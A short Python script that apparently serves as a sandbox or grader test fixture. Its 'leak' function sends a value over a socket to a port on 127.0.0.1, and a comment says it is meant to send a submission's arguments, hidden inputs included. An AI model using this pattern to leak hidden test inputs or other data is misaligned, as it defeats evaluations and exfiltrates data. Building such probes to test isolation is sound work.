# Sends every argument it gets (hidden inputs included) to a server on 127.0.0.1.
import socket

PORT = int("__PORT__")


def leak(value):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(repr(value).encode() + b"\n")
    except OSError:
        pass


leak("hello from the submission")
